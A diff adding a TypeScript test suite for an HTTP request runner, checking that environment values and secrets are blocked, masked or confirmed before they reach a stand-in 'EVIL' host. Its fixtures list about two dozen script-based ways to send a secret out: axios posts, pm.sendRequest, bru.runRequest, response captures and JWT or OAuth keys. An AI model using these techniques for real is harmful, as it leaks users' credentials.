@@ -1,0 +1,177 @@
+import assert from 'node:assert/strict';
+import type { OutgoingMessage } from '../../src/runner/index.ts';
+import { startRecorder, type Recorder } from '../support/recorder.ts';
+import { sendRun, type SendRun } from '../support/sendRun.ts';
+
+/** Long enough for a key of HS256. Its pieces of eight characters occur nowhere else. */
+const value = 'Riga-0815-canary-9f2c-4711-hush-5b7d';
+
+interface Way {
+  readonly text: string;
+  /** Of the request; `a.req` if absent. */
+  readonly file?: string;
+  readonly data?: string;
+  /** Only a signature made with the value is sent, so nothing can show it. */
+  readonly isKey?: true;
+}
+
+const read = 'tool.interpolate("VALUE")';
+const inScript = (sends: string): string =>
+  `< {%\nconst sent = ${sends};\nconsole.log(JSON.stringify(sent?.data ?? sent?.json?.() ?? null), ${read});\n%}\nGET GOOD/\n`;
+
+/** How a value can reach another host. `VALUE` is its placeholder, in the syntax of the file. */
+const ways: Readonly<Record<string, Way>> = {
+  'axios with a body': { text: inScript(`await axios.post("EVIL/", ${read})`) },
+  'axios with parameters, reversed': { text: inScript(`await axios.get("EVIL/", { params: { q: [...${read}].reverse().join("") } })`) },
+  'require("axios") with a header': { text: inScript(`await require("axios").get("EVIL/", { headers: { "X-A": ${read} } })`) },
+  'an instance of axios with credentials': {
+    text: inScript(`await axios.create({ baseURL: "EVIL", auth: { username: "me", password: ${read} } }).get("/")`),
+  },
+  'pm.sendRequest with a body': {
+    text: inScript(`await pm.sendRequest({ url: "EVIL/", method: "POST", body: { mode: "raw", raw: ${read}.slice(4) } })`),
+  },
+  'pm.sendRequest with a placeholder': {
+    text: `@made = <VALUE>\n\n${inScript('await pm.sendRequest({ url: "EVIL/", method: "POST", header: { "X-A": "{{made}}" } })')}`,
+  },
+  'pm.environment, in a later request': {
+    text: `### a\n# @name a\n${inScript(`pm.environment.set("x", ${read}.split("-"))`)}\n### b\n# @ref a\nGET EVIL/?q={{x[0]}}{{x[1]}}\n`,
+  },
+  'pm.request': { text: `< {%\npm.request.headers.upsert({ key: "X-A", value: [...${read}].reverse().join("") });\n%}\nGET EVIL/\n` },
+  'bru.sendRequest with a body': { text: inScript(`await bru.sendRequest({ method: "POST", url: "EVIL/", data: { x: ${read} } })`) },
+  'bru.runRequest': {
+    text: `### evil\n# @name evil\nGET EVIL/{{x}}\n\n### b\n${inScript(`(bru.setVar("x", ${read}), await bru.runRequest("evil"))`)}`,
+  },
+  'req of Bruno': { text: `< {%\nreq.setBody({ x: ${read} });\n%}\nPOST EVIL/\n\nb\n` },
+  'a capture of the body': { text: '### a\n# @name a\nGET GOOD/?q=VALUE\n\n@x << body.target\n\n### b\n# @ref a\nGET EVIL/{{x}}\n' },
+  'a capture by JSONPath': {
+    text: '### a\n# @name a\nGET GOOD/?q=VALUE\n\n@x << body.$..target\n\n### b\n# @ref a\nPOST EVIL/\n\n{{x}}\n',
+  },
+  'a column of a row of data': {
+    text: `# @data rows.csv\n< {%\ntool.setVar("column", ${read});\n%}\nGET EVIL/{{column}}\n`,
+    data: 'column\nplain\n',
+  },
+  'a claim of tool.jwt': {
+    text: `< {%\nrequest.headers["X-T"] = tool.jwt.sign({ x: ${read} }, { alg: "HS256", key: "a key of more than 32 characters, really" });\n%}\nGET EVIL/\n`,
+  },
+  'the key of tool.jwt': {
+    isKey: true,
+    text: '< {%\nrequest.headers["X-T"] = tool.jwt.sign({ x: 1 }, { alg: "HS256", key: "VALUE" });\n%}\nGET EVIL/\n',
+  },
+  '# @auth jwt, the key': { isKey: true, text: '# @auth jwt key=VALUE\nGET EVIL/\n' },
+  '# @auth jwt, a claim': { text: `# @auth jwt key="a key of more than 32 characters, really" claims='{"x": "VALUE"}'\nGET EVIL/\n` },
+  '# @auth oauth1': { isKey: true, text: '# @auth oauth1 consumer VALUE token=t token-secret=s\nGET EVIL/\n' },
+  '# @auth oauth1, the token': { text: '# @auth oauth1 consumer secret token=VALUE token-secret=s\nGET EVIL/\n' },
+  '# @auth hawk': { isKey: true, text: '# @auth hawk id VALUE\nGET EVIL/\n' },
+  '# @auth wsse': { isKey: true, text: '# @auth wsse user VALUE\nGET EVIL/\n' },
+  'a .http file': { text: '### b\nGET EVIL/?q=VALUE\n', file: 'a.http' },
+  'a variable of a .http file': { text: '@x = a-VALUE\n\n### b\nPOST EVIL/\nX-A: {{x}}\n\nb\n', file: 'a.http' },
+  'a response that a .http file uses': {
+    text: '# @name a\nGET GOOD/?q=VALUE\n\n### b\n# @ref a\nGET EVIL/{{a.response.body.target}}\n',
+    file: 'a.http',
+  },
+};
+
+describe('what may not go to every receiver, or may not be shown', () => {
+  let good: Recorder;
+  let evil: Recorder;
+  let asked: string[];
+  let messages: OutgoingMessage[];
+
+  before(async () => {
+    const echo = (_: unknown, target: string): string => {
+      const body = JSON.stringify({ target });
+      return `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
+    };
+    [good, evil] = [await startRecorder(echo), await startRecorder(echo)];
+  });
+  after(async () => {
+    await good.close();
+    await evil.close();
+  });
+  beforeEach(() => {
+    [asked, messages] = [[], []];
+    good.requests.length = evil.requests.length = 0;
+  });
+
+  const evilHost = (): string => new URL(evil.url).host;
+
+  function send({ text, file = 'a.req', data }: Way, placeholder: string, isAgent = false): Promise<SendRun> {
+    const filled = text.replaceAll('GOOD', good.url).replaceAll('EVIL', evil.url).replaceAll('VALUE', placeholder);
+    return sendRun(
+      { [file]: filled, ...(data === undefined ? {} : { 'rows.csv': data }) },
+      {
+        file,
+        host: {
+          env: (name) => (name === 'TOWN' ? value : undefined),
+          secret: (name) => Promise.resolve(name === 'KEY' ? value : undefined),
+          maySendEnvironment(names, _root, to) {
+            asked.push(`${names.join()} to ${to.host}`);
+            return Promise.resolve(to.host !== evilHost());
+          },
+          ...(isAgent
+            ? {
+                mayLookUp: () => Promise.resolve(true),
+                maySend(message) {
+                  messages.push(message);
+                  return Promise.resolve(true);
+                },
+              }
+            : {}),
+        },
+      },
+    );
+  }
+
+  /**
+   * What the runner shows masked; bodies and values of variables are masked by what shows them. In a user's run, the console can show pieces
+   * that a script printed.
+   */
+  function assertHidden({ events }: SendRun, isAgent: boolean): void {
+    for (const event of events) {
+      if (event.kind === 'chunk' || event.kind === 'variables') continue;
+      const shown = JSON.stringify(event, (_, v: unknown) => (v instanceof Map ? [...v] : v));
+      for (const piece of event.kind === 'console' && !isAgent ? [value] : pieces)
+        assert.ok(!shown.includes(piece), `${piece} is shown: ${shown.slice(0, 3000)}`);
+    }
+  }
+  const pieces = [
+    value.slice(0, 12),
+    value.slice(-12),
+    value.split('').toReversed().join('').slice(0, 12),
+    Buffer.from(value.slice(0, 9)).toString('base64'),
+  ];
+
+  for (const [name, way] of Object.entries(ways)) {
+    const inHttp = way.file !== undefined;
+
+    it(`does not go to a host that may not have it: a value of the environment, by ${name}`, async () => {
+      await send(way, inHttp ? '{{$processEnv TOWN}}' : '{{$env.TOWN}}');
+      assert.ok(asked.includes(`TOWN to ${evilHost()}`), `asked: ${asked.join('; ')}`);
+      assert.deepEqual(evil.requests, []);
+    });
+
+    // .http files have no secrets of their own.
+    if (inHttp) continue;
+    if (way.isKey !== true)
+      it(`is not shown: a secret by ${name}, nor what is made of it`, async () => {
+        const run = await send(way, '{{$secret.KEY}}');
+        assert.equal(run.result.failure?.message, undefined);
+        assert.equal(evil.requests.length > 0, true);
+        assertHidden(run, false);
+      });
+    it(`is asked for before an agent sends it: a secret by ${name}`, async () => {
+      const run = await send(way, '{{$secret.KEY}}', true);
+      const toEvil = messages.filter(({ to }) => to.host === evilHost());
+      assert.ok(toEvil.length > 0);
+      for (const { secrets } of toEvil) assert.notDeepEqual(secrets, []);
+      assertHidden(run, true);
+    });
+  }
+
+  it("is hidden in the next request that an agent's script names where nothing runs after it", async () => {
+    const text = '< {%\npm.setNextRequest([...bru.getProcessEnv("TOWN")].join("."));\n%}\nGET GOOD/\n';
+    const { console: lines } = await send({ text }, '', true);
+    assert.equal(lines.length, 1);
+    assert.match(lines[0] ?? '', /^The next request, •••, is not sent/);
+  });
+});
